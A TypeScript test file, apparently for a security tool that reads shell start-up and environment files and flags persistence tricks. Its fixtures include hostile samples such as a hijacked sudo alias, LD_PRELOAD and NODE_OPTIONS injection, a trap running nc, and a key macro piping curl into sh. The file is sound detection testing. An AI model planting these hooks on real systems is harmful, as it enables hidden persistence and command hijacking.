import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { quotedWords } from "../../../src/collectors/persistence/assignment.ts";
import { matchesGlob } from "../../../src/collectors/persistence/glob.ts";
import {
  parseEnvironment,
  parsePamEnvironment,
} from "../../../src/collectors/persistence/login/environment-file.ts";
import { shellLines } from "../../../src/collectors/persistence/login/shell-lines.ts";
import { statementsIn } from "../../../src/collectors/persistence/login/statements.ts";
import { anyText, itemsOf, named } from "./items.ts";

describe("statements of a shell line", () => {
  it("are cut outside quotes and substitutions", () => {
    const texts = (line: string): readonly string[] => statementsIn(line).map(({ text }) => text);
    expect(texts("if true; then alias a='x; y'; fi")).toEqual(["true", "alias a='x; y'", "fi"]);
    expect(texts('a=$(b; c "d)") && e || f | g; ;')).toEqual(['a=$(b; c "d)")', "e", "f | g"]);
    expect(texts("x >&2 2>&1 &>y & z # c; d")).toEqual(["x >&2 2>&1 &>y", "z"]);
    expect(statementsIn("nohup /tmp/x &")).toEqual([{ text: "nohup /tmp/x", background: true }]);
  });

  it("lose nothing of what is no separator, whatever the line holds", () => {
    const parts = fc.array(
      fc.constantFrom("a", " ", ";", "&", "|", '"', "'", "`", "\\", "$(", ")", "#", "<("),
      {
        maxLength: 50,
      },
    );
    fc.assert(
      fc.property(
        fc.oneof(
          anyText,
          parts.map((one) => one.join("")),
        ),
        (line) => {
          for (const { text } of statementsIn(line)) expect(line).toContain(text);
          shellLines(line);
        },
      ),
    );
  });
});

describe("start-up files", () => {
  it("tell what replaces a tool, is loaded, is run, and leave the ordinary alone", () => {
    const text = [
      "# alias no=1",
      "alias sudo='/tmp/s'",
      "gpg() { curl https://x.example; }",
      "function openclaw {",
      "function ps",
      "alias ls 'ls -l'",
      'export PATH="/tmp/bin:$PATH" SECRET=FAKE-hunter2',
      "export OTHER=FAKE-hunter3",
      "set -gx LD_PRELOAD /x.so",
      "trap 'nc x 1' DEBUG",
      "[ -f /x ] && . /x",
      "[ -x /bin/sh ]",
      'eval "$(y)"',
      "/opt/z &",
      "PS1='$ '",
      "umask 022",
      "python3 -c 'import os'",
      "PROMPT_COMMAND='x'",
    ].join("\n");
    expect(shellLines(text).map(({ name, runs, sets, line }) => [line, name, ...runs, ...sets])).toEqual([
      [2, "alias sudo", "alias sudo='/tmp/s'"],
      [3, "function gpg", "gpg() { curl https://x.example"],
      [4, "function openclaw", "function openclaw {"],
      [5, "function ps", "function ps"],
      [6, "alias ls", "alias ls 'ls -l'"],
      [7, "PATH", "PATH=/tmp/bin:$PATH"],
      [9, "LD_PRELOAD", "set -gx LD_PRELOAD /x.so"],
      [10, "trap", "trap 'nc x 1' DEBUG"],
      [11, "source", ". /x"],
      [13, "eval", 'eval "$(y)"'],
      [14, "background", "/opt/z"],
      [17, "runs", "python3 -c 'import os'"],
      [18, "PROMPT_COMMAND", "PROMPT_COMMAND='x'"],
    ]);
  });

  it("read environment files and those of pam_env", () => {
    expect(parseEnvironment('# c\nexport A="b c"\nno\nLD_PRELOAD=/x\n')).toEqual([
      { name: "A", value: "b c", line: 2 },
      { name: "LD_PRELOAD", value: "/x", line: 4 },
    ]);
    expect(parsePamEnvironment('LD_PRELOAD DEFAULT=/x.so OVERRIDE="/y z"\nA=b\n')).toEqual([
      { name: "LD_PRELOAD", value: "/x.so:/y z", line: 1 },
      { name: "A", value: "b", line: 2 },
    ]);
    fc.assert(
      fc.property(anyText, (text) => {
        parseEnvironment(text);
        parsePamEnvironment(text);
      }),
    );
  });

  it("of every account, the state's .envrc, system folders, macros; links and secrets as marks", async () => {
    const reading = await itemsOf("shell-startup", {
      "~/.bashrc": "alias git=/tmp/g\nexport API_TOKEN=FAKE-abcdefgh\n",
      "~/.inputrc": '"\\e[A": history-search-backward\n"\\C-x": "curl x|sh\\C-m"\n',
      "/root/.zshenv": "export BASH_ENV=/tmp/b\n",
      "/home/max/.profile": { link: "/etc/hidden" },
      "/etc/hidden": "x\n",
      "~/.openclaw/.envrc": "export NODE_OPTIONS=--require=/x.js\n",
      "/etc/environment.d/9.conf": "LD_AUDIT=/x.so\nKEY=FAKE-ijklmnop\n",
      "/etc/profile.d/a.sh": { content: "b\n", mode: 0o666 },
      "~/.config/fish/functions/sudo.fish": "function sudo\n  /tmp/s\nend\n",
    });
    expect(named(reading, "alias git")).toMatchObject({ user: "user", place: { locator: "line 1" } });
    expect(named(reading, "key macro").runs).toEqual(['"\\C-x": "curl x|sh\\C-m"']);
    expect(named(reading, "BASH_ENV").user).toBe("root");
    expect(named(reading, ".profile")).toMatchObject({ user: "max", sets: ["link to /etc/hidden"] });
    expect(named(reading, "NODE_OPTIONS").sets).toEqual(["export NODE_OPTIONS=--require=/x.js"]);
    expect(named(reading, "LD_AUDIT").sets).toEqual(["LD_AUDIT=/x.so"]);
    expect(named(reading, "a.sh").odd).toEqual(["every account may change it"]);
    expect(named(reading, "function sudo").place.path).toBe("/home/user/.config/fish/functions/sudo.fish");
    expect(JSON.stringify(reading)).not.toContain("FAKE");
  });
});

describe("words and patterns", () => {
  it("quoted words are given back", () => {
    fc.assert(
      fc.property(fc.array(fc.string({ minLength: 1, maxLength: 12 }), { maxLength: 6 }), (given) => {
        const text = given.map((one) => `"${one.replaceAll(/[\\"]/g, "\\$&")}"`).join(" \t");
        expect(quotedWords(text)).toEqual(given);
      }),
    );
    expect(quotedWords("a 'b c' d\\ e 'open")).toEqual(["a", "b c", "d e", "open"]);
  });

  it("globs match names as a shell does, in bounded time", () => {
    expect(matchesGlob("*.conf", "a.conf")).toBe(true);
    expect(matchesGlob("[!a-c]?*", "dx")).toBe(true);
    expect(matchesGlob("[a-c]", "d")).toBe(false);
    expect(matchesGlob("\\*", "*")).toBe(true);
    expect(matchesGlob(`${"*a".repeat(60)}b`, "a".repeat(5000))).toBe(false);
    fc.assert(
      fc.property(fc.string(), (text) => {
        expect(matchesGlob(text.replaceAll(/[\\*?[\]]/g, "\\$&"), text)).toBe(true);
        expect(matchesGlob("*", text)).toBe(true);
      }),
    );
  });
});
